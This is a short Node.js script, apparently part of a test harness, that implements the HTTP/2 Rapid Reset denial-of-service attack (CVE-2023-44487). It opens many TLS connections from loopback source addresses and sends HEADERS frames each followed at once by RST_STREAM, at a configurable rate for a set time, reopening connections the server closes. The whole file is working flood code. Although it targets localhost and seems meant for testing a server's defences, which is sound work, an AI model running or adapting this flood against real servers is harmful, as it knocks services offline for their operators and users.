// SPDX-License-Identifier: Apache-2.0
// Rapid reset (CVE-2023-44487): requests over HTTP/2 that are taken back as soon as they are sent, `rate` a second over `n` connections of
// as many addresses, opened again when the edge ends them. Bounded in time.
import tls from 'node:tls'
import { F, PREFACE, T, block, frame, literal } from '../lib/h2.mjs'

const o = JSON.parse(process.argv[2]) // { port, host, net, n, rate, seconds }
const RST = Buffer.from([0, 0, 0, 8])
const head = Buffer.concat([block(o.host), literal('x-side', 'flood')])
const ends = {}
const clients = Array.from({ length: o.n }, (_, i) => ({ address: `127.${o.net}.1.${1 + i}`, socket: null, ready: false, id: 1 }))
let sent = 0; let at = 0
const began = Date.now(); const end = began + o.seconds * 1000

function connect (c) {
  const s = c.socket = tls.connect({ port: o.port, host: '127.0.0.1', localAddress: c.address, servername: o.host, ALPNProtocols: ['h2'], rejectUnauthorized: false })
  c.ready = false
  s.on('secureConnect', () => { c.ready = true; c.id = 1; s.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0)])) })
  s.on('data', () => {})
  s.on('error', () => {})
  s.on('close', () => { ends.closed = (ends.closed ?? 0) + 1; if (c.socket === s) c.socket = null })
}

const timer = setInterval(() => {
  const now = Date.now()
  if (now > end) { clearInterval(timer); process.send({ statuses: ends, sent }); setTimeout(() => process.exit(0), 200); return }
  for (const due = (now - began) / 1000 * o.rate; sent < due; sent++) {
    const c = clients[at++ % clients.length]
    if (!c.socket) connect(c)
    if (!c.ready || c.socket.writableLength > 1 << 20) continue
    c.socket.write(Buffer.concat([frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, c.id, head), frame(T.RST, 0, c.id, RST)]))
    c.id += 2
  }
}, 5)
process.on('disconnect', () => process.exit(0))
